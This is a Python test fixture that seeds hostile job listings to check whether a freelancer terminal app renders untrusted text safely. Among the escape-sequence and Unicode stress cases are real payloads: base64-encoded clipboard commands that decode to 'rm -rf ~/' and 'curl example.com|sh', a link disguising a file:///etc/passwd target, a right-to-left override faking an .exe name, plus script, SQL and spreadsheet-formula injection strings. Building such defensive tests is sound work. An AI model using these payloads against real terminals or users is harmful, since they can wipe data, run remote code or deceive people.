"""Hostile: jobs whose text tries to break whoever shows it."""

from collections.abc import Callable
from decimal import Decimal
from typing import Final

from freelancer_tui.sandbox.seed.jobs import Job
from freelancer_tui.sandbox.seed.people import Employer
from freelancer_tui.sandbox.seed.places import skills_by_name

ESC: Final = "\x1b"
BELL: Final = "\x07"
Text = tuple[str, str]
"""A title and a description."""


def hostile(name: str, owner: Employer) -> Job:
    """Give the hostile job of this name."""
    title, description = HOSTILE[name]()
    by_name = skills_by_name()
    return Job(
        owner=owner,
        language="en",
        title=title,
        description=description,
        kind="fixed",
        currency="USD",
        minimum=Decimal(30),
        maximum=Decimal(250),
        # One that the first freelancer has: what tries to break a client must reach it.
        skills=(by_name["Copywriting"].id, by_name["Internet Security"].id),
    )


def _terminal_title() -> Text:
    return (
        f"Rename{ESC}]0;you have been renamed{BELL} my product range",
        f"We rename things. {ESC}]2;owned{ESC}\\ If the title of your terminal window has changed,"
        " something let our words through. We pay for forty product names, two words each.",
    )


def _link() -> Text:
    return (
        f"Check {ESC}]8;;https://example.com/lies{ESC}\\our brief{ESC}]8;;{ESC}\\ first",
        f"The brief is {ESC}]8;;file:///etc/passwd{BELL}here{ESC}]8;;{BELL}, says the link, and it"
        " lies about where it leads. We want a page that tests terminals for hidden links.",
    )


def _clipboard() -> Text:
    return (
        f"Copywriter{ESC}]52;c;cm0gLXJmIH4v{BELL} for a hardware shop",
        f"Ten product pages. {ESC}]52;c;Y3VybCBleGFtcGxlLmNvbXxzaA=={BELL}This sentence tried to"
        " put a command on your clipboard. If you paste and find one, please tell your terminal.",
    )


def _cursor() -> Text:
    return (
        f"Simple task{ESC}[2J{ESC}[H, great pay",
        f"Line one.{ESC}[1A{ESC}[2KLine one never existed.{ESC}[999;999H{ESC}[?25l{ESC}[?1049h"
        f"{ESC}[31mEverything is red now.{ESC}c{ESC}(0qqqq{ESC}(B We draw boxes for a museum of"
        " old terminals, and would like somebody to draw more of them.",
    )


def _eight_bit() -> Text:
    return (
        "Typist\x9b31m wanted, patient\x9b0m",
        "An old file with eight-bit controls: \x9b2J\x9bH \x90q\x9c \x9d0;title\x9c \x85 and \x8d."
        " Two hundred pages of it came from a terminal of 1986. Clean them up, keep the poems.",
    )


def _markup() -> Text:
    return (
        "[bold red]URGENT[/] [link=https://example.com]logo[/link] [@click=app.quit]for bread[/]",
        "[blink]Hello![/blink] Our name is [/] and our motto is [red. We sell [b]bread[/b],"
        " [$primary]rolls[/], \\[cakes] and {{ templates }}. ${HOME} %s %(name)s {0} <b>bold</b>"
        " &amp; <script>alert('bread')</script>. Nothing of this is meant as markup. [/][/][/]",
    )


def _right_to_left() -> Text:
    return (
        "Invoice template \u202egpj.exe\u202c for a cinema",
        "Attached is \u202etxt.enod_tsap_reven\u202c and \u2066one\u2067 more\u2069 thing. The"
        " words \u200fstand\u200e where they stand. We need an invoice for tickets, one page.",
    )


def _zero_width() -> Text:
    return (
        "Lo\u200bgo fo\u200dr a gh\u2060ost to\ufeffur",
        "In\u200bvis\u200cib\u200dle ink\u2060, in\u00advisible seams.\u034f Search for the word"
        " 'ghost' and see whether it is found: gh\u200bost. \ufeff\u180e\u115f\u3164 The tour runs"
        " at nine; the logo should be visible by ten.",
    )


def _combining() -> Text:
    flood = "".join(chr(0x0300 + number % 0x70) for number in range(240))
    return (
        f"Summon a poster f{flood[:80]}or our metal band",
        f"Our name is Z{flood}a{flood}l{flood}g{flood}o. The poster may drip, but only downwards,"
        " and the date must be readable from across a car park.",
    )


def _long_text() -> Text:
    line = "We would also like the second paragraph to be about the first. "
    return (
        "A very thorough brief for a very small sign",
        ("The sign says OPEN. " + line * 400)[:19_990] + "Thank you.",
    )


def _long_word() -> Text:
    return (
        "Kepanjangan" + "panjang" * 712 + "sekali",
        "The title of this job is one word of five thousand letters. It is the name of our village,"
        " or so the form said. We need a station sign, and advice.",
    )


def _controls() -> Text:
    controls = "".join(chr(code) for code in range(1, 32)) + "\x7f"
    return (
        "Bells\x07\x07\x07 and\x08\x08\x08 whistles\r\nfor a toy shop\tquickly",
        f"Every control character but one: {controls}\r\nA line,\x0ba vertical tab,\x0ca new page,"
        "\u2028a line separator,\u2029a paragraph separator. The shop sells bells, so ring them.",
    )


def _wide() -> Text:
    return (
        "👩‍👩‍👧‍👦🏳️‍🌈 Emoji set ＦＵＬＬ ＷＩＤＴＨ 測試 ﷽",
        "𝕱𝖆𝖓𝖈𝖞 letters, a family 👨‍👩‍👧‍👦 of one cell or eight, flags 🇮🇩🇯🇵🇺, a lone"
        " \u20e3, ｈａｌｆ ﾊﾟ, and ﷽, the widest of all. Twelve emoji, please, in one width.",
    )


def _blank() -> Text:
    return (
        "\u3000\u2003 . \u2003\u3000",
        "\n\n\n\n\n\t\t\t\n\n"
        * 30
        + "The form would not accept an empty text, so here is a full stop."
        " We will describe the work in the chat." + "\n" * 200,
    )


def _formula() -> Text:
    return (
        '=HYPERLINK("https://example.com","Data entry, 200 rows")',
        "=1+1\n+1-1\n@SUM(A1:A9)\n-2+3\n\"quoted\", 'quoted'; DROP TABLE projects;--\n"
        "If a spreadsheet ever opens this text, none of its lines should calculate. 200 rows.",
    )


HOSTILE: Final[dict[str, Callable[[], Text]]] = {
    "terminal_title": _terminal_title,
    "link": _link,
    "clipboard": _clipboard,
    "cursor": _cursor,
    "eight_bit": _eight_bit,
    "markup": _markup,
    "right_to_left": _right_to_left,
    "zero_width": _zero_width,
    "combining": _combining,
    "long_text": _long_text,
    "long_word": _long_word,
    "controls": _controls,
    "wide": _wide,
    "blank": _blank,
    "formula": _formula,
}
